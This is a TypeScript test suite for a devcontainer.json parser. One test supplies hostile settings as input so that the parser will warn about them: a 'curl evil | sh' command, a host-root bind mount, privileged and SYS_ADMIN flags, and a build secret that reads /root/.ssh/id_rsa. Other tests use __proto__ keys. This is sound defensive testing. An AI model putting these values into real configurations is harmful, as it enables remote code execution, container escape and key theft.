import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseDevcontainerFile } from '../../../src/settings/devcontainer';
import { devcontainerSchema } from '../../../src/settings/devcontainerSchema';
import { formatProblem } from '../../../src/settings/settingsProblem';

const path = '/home/ada/app/.devcontainer/devcontainer.json';

function parse(value: object | string) {
  const text = typeof value === 'string' ? value : JSON.stringify(value);
  return parseDevcontainerFile(path, text, '/home/ada/app');
}

function read(value: object | string) {
  const result = parse(value);
  if ('problems' in result) {
    throw new Error(result.problems.map(formatProblem).join('\n'));
  }
  return result.devcontainer;
}

function problemsOf(value: object | string): string {
  const result = parse(value);
  return 'problems' in result ? result.problems.map(formatProblem).join('\n') : '';
}

describe('parseDevcontainerFile', () => {
  it('reads what we honour, with variables replaced', () => {
    const found = read({
      name: 'Service',
      image: 'node:22',
      remoteUser: 'node',
      containerUser: 'root',
      workspaceFolder: '/srv/${localWorkspaceFolderBasename}/',
      containerEnv: { HERE: '${containerWorkspaceFolder}', ID: '${devcontainerId}' },
      remoteEnv: { PATH: '/x:${containerEnv:PATH}', GONE: null },
      forwardPorts: [3000, 'localhost:8080', 'db:5432', 3000],
      onCreateCommand: 'npm ci',
      postCreateCommand: ['echo', '${containerWorkspaceFolderBasename}'],
      postStartCommand: { a: 'x', b: ['y', 'z'] },
      postAttachCommand: '',
      updateContentCommand: null,
      hostRequirements: { cpus: 4, memory: '8gb', storage: '32gb' },
      customizations: { vscode: { extensions: ['a.b'] } },
      somethingNew: { at: 'all' },
    });
    expect(found).toMatchObject({
      workspaceFolder: '/srv/app',
      remoteUser: 'node',
      containerUser: 'root',
      containerEnv: { HERE: '/srv/app', ID: expect.stringMatching(/^[0-9a-v]{52}$/) },
      remoteEnv: { PATH: '/x:${containerEnv:PATH}' },
      forwardPorts: [3000, 8080],
      atLeast: { cpus: 4, memoryBytes: 8 * 1024 ** 3, diskBytes: 32 * 1024 ** 3 },
    });
    expect(found.hooks).toEqual({
      onCreateCommand: ['npm ci'],
      postCreateCommand: [['echo', 'app']],
      postStartCommand: [{ a: 'x', b: ['y', 'z'] }],
    });
    expect(found.warnings.join('\n')).toMatch(/remoteEnv\.GONE.*\n?.*db:5432|db:5432.*\n.*remoteEnv\.GONE/);
    expect(found.warnings).toHaveLength(2);
  });

  it("gives the default folder's name to variables when there is no workspaceFolder", () => {
    expect(read({ containerEnv: { A: '${containerWorkspaceFolder}' } }).containerEnv).toEqual({
      A: '/workspaces/app',
    });
  });

  it('warns about what it leaves out, and only if it asks for something', () => {
    const { warnings } = read({
      initializeCommand: 'curl evil | sh',
      mounts: ['source=/,target=/host,type=bind'],
      runArgs: ['--privileged'],
      privileged: true,
      capAdd: ['SYS_ADMIN'],
      securityOpt: ['seccomp=unconfined'],
      workspaceMount: 'source=/,target=/w,type=bind',
      appPort: 3000,
      hostRequirements: { gpu: true, cpus: 1000, memory: 'lots' },
      build: { dockerfile: 'Dockerfile', options: ['--secret=id=k,src=/root/.ssh/id_rsa'] },
      containerEnv: { TOKEN: '${localEnv:TOKEN}' },
    });
    for (const key of [
      'initializeCommand',
      'mounts',
      'runArgs',
      'privileged',
      'capAdd',
      'securityOpt',
      'workspaceMount',
      'appPort',
      'hostRequirements.gpu',
      'hostRequirements.cpus',
      'hostRequirements.memory',
      'build.options',
      'TOKEN',
    ]) {
      expect(warnings.filter((sentence) => sentence.includes(key))).toHaveLength(1);
    }
    expect(read({ mounts: [], runArgs: [], privileged: false, initializeCommand: '' }).warnings).toEqual([]);
  });

  it.each([
    [{ image: 'Not An Image' }, 'image: "Not An Image" is not an image reference'],
    [{ remoteUser: 'a b' }, 'remoteUser: "a b" is not an account name'],
    [{ remoteUser: '-x' }, 'is not an account name'],
    [{ containerEnv: { 'A B': '' } }, '"A B" is not a variable name that may be set'],
    [{ remoteEnv: { BULKHEAD_USER: 'root' } }, '"BULKHEAD_USER" is not a variable name that may be set'],
    [{ containerEnv: { A: 1 } }, 'containerEnv.A: 1 is not a text'],
    [{ containerEnv: { A: 'x\0' } }, 'containerEnv.A: '],
    [{ postCreateCommand: 7 }, 'postCreateCommand: 7 is not a command'],
    [{ postCreateCommand: ['a', 1] }, 'postCreateCommand: a list is not a command'],
    [{ forwardPorts: [0] }, 'forwardPorts.0: 0 is not a port'],
    [{ workspaceFolder: '/' }, 'workspaceFolder: "/" is not a folder that the guest can have'],
    [{ workspaceFolder: '/proc/x' }, 'workspaceFolder: '],
    [{ workspaceFolder: '/.bulkhead' }, 'workspaceFolder: '],
    [{ workspaceFolder: '/a/../etc' }, 'workspaceFolder: '],
    [{ workspaceFolder: 'src' }, 'workspaceFolder: '],
    [{ workspaceFolder: 5 }, 'workspaceFolder: 5 is not'],
    [
      { customizations: { bulkhead: { cpu: 2 } } },
      'customizations.bulkhead.cpu: unknown key. Did you mean "cpus"?',
    ],
    [{ build: 'Dockerfile' }, 'build: "Dockerfile" is not an object'],
    ['{"customizations": {"bulkhead": {"__proto__": {}}}}', 'customizations.bulkhead.__proto__: this key'],
    ['{"image": }', 'devcontainer.json:1:11: a value was expected'],
    ['[]', 'a list is not an object'],
  ])('refuses %j', (value, expected) => {
    expect(problemsOf(value)).toContain(expected);
  });

  it('drops __proto__ and takes the last of two keys, and says so', () => {
    const found = read('{"__proto__": {"image": "evil"}, "image": "a", "image": "b"}');
    expect(found.values.image).toBe('b');
    expect(found.warnings).toHaveLength(2);
  });

  it('never throws, whatever the text', () => {
    const keys = [
      ...Object.keys(devcontainerSchema.shape),
      'workspaceFolder',
      'customizations',
      'hostRequirements',
      '__proto__',
    ];
    const ours = fc
      .dictionary(
        fc.constantFrom(...keys),
        fc.oneof(fc.jsonValue(), fc.string(), fc.constant({ bulkhead: {} })),
      )
      .map((value) => JSON.stringify(value));
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit: 'binary' }), ours), (text) => {
        const result = parse(text);
        expect('devcontainer' in result || result.problems.length > 0).toBe(true);
      }),
      { numRuns: 500 },
    );
  });
});
